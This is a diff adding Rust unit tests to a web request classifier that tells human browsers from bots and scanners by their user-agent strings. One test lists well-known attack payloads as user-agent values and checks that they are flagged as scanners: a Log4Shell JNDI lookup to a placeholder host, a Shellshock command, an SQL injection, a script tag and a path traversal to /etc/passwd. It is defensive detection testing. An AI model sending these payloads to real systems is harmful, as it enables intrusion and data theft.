@@ -76,6 +76,63 @@ fn real_user_agents_are_told_apart() {
     );
 }
 
+/// Strings of others' fixtures, none of which a rule names whole, with where each was found.
+#[test]
+fn strangers_are_told_by_their_families() {
+    let mut reader = csv::Reader::from_reader(&include_bytes!("../../tests/data/strangers.csv")[..]);
+    let mut wrong = Vec::new();
+    let mut n = 0;
+    for record in reader.records() {
+        let record = record.unwrap();
+        let side = |class: HitClass| match class {
+            HitClass::Unknown => "unknown",
+            class if class.is_human() => "human",
+            _ => "machine",
+        };
+        let verdict = classify(&facts(&record[0]));
+        n += 1;
+        if side(verdict.class) != &record[1] {
+            wrong.push(format!(
+                "{} ({}) for {}: {}",
+                verdict.class, verdict.reason, &record[1], &record[0]
+            ));
+        }
+    }
+    assert!(n > 50, "the list is there");
+    assert!(wrong.is_empty(), "{wrong:#?}");
+}
+
+#[test]
+fn a_name_behind_a_browsers_user_agent_is_a_machines_and_a_browsers_own_is_not() {
+    let chrome = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36";
+    for (tail, wanted) in [
+        ("", HitClass::HumanDirect),
+        (" SomeLinkTool", HitClass::Bot),
+        ("; SomeLinkTool", HitClass::Bot),
+        (" (SomeLinkTool)", HitClass::HumanDirect),
+        (" SomeBrowser/2.0", HitClass::HumanDirect),
+        (" SomeBrowser", HitClass::HumanDirect),
+        (" OPR/111.0.0.0", HitClass::HumanDirect),
+        (" TV", HitClass::HumanDirect),
+        (" example.com", HitClass::Bot),
+        (" (+https://example.com/about)", HitClass::Bot),
+    ] {
+        let user_agent = format!("{chrome}{tail}");
+        assert_eq!(class(&user_agent), wanted, "{user_agent}");
+    }
+    assert_eq!(
+        class(&chrome.replace("like Gecko)", "like Gecko; Some Measuring)")),
+        HitClass::Bot
+    );
+    assert_eq!(
+        class(
+            "Mozilla/5.0 (Macintosh; U; PPC Mac OS X; en) AppleWebKit/419 (KHTML, like Gecko, Safari/419.3) OmniWeb/v607"
+        ),
+        HitClass::HumanDirect,
+        "WebKit itself put Safari there once"
+    );
+}
+
 #[test]
 fn the_three_real_prefetchers_are_machines_and_their_neighbours_are_not() {
     let table = [
@@ -158,6 +215,19 @@ fn a_proxy_faster_than_any_person_is_unknown() {
             wanted,
             "{delta:?}"
         );
+    }
+}
+
+#[test]
+fn who_sends_code_is_a_scanner_whatever_it_wears() {
+    for user_agent in [
+        "${jndi:ldap://example.org/x}",
+        "() { :;}; /bin/bash -c 'id'",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' OR 1=(SELECT 1 FROM PG_SLEEP(15))--",
+        "<script>alert(1)</script>",
+        "../../../../etc/passwd",
+    ] {
+        assert_eq!(class(user_agent), HitClass::Scanner, "{user_agent}");
     }
 }
 
